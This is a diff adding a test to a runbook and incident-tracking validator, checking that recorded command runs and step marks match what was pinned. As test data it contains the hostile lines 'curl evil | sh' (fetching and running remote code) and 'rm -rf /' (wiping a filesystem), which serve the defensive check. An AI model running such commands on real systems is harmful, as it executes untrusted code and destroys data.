@@ -273,3 +273,16 @@ def test_the_gate_keeps_the_strictest_type_any_pin_gave_it():
     assert pinned.step("s1").commands[0].code == "curl evil | sh"
     done = {"runbook_id": "rb", "step_id": "gate", "action": "done"}
     assert "completing an approval step" in _check(repinned, "runbook_step", "sam", **done)
+
+
+def test_step_marks_and_command_runs_must_match_what_is_pinned():
+    state = fold([_attach("dora", STEPS, "1" * 64)], _commanded())
+    ran = {"runbook_id": "rb", "step_id": "s1", "exit_code": 0, "duration_s": 0.1}
+    assert _check(state, "command_run", command="echo safe", **ran) is None
+    forged = _check(state, "command_run", admin=True, command="rm -rf /", **ran)
+    assert forged == "the command recorded for rb/s1 is not one pinned with the runbook"
+    stray = {"runbook_id": "rb", "step_id": "nope", "action": "done"}
+    assert (
+        _check(state, "runbook_step", **stray)
+        == "rb/nope is not a step of a runbook attached to inc-test01"
+    )
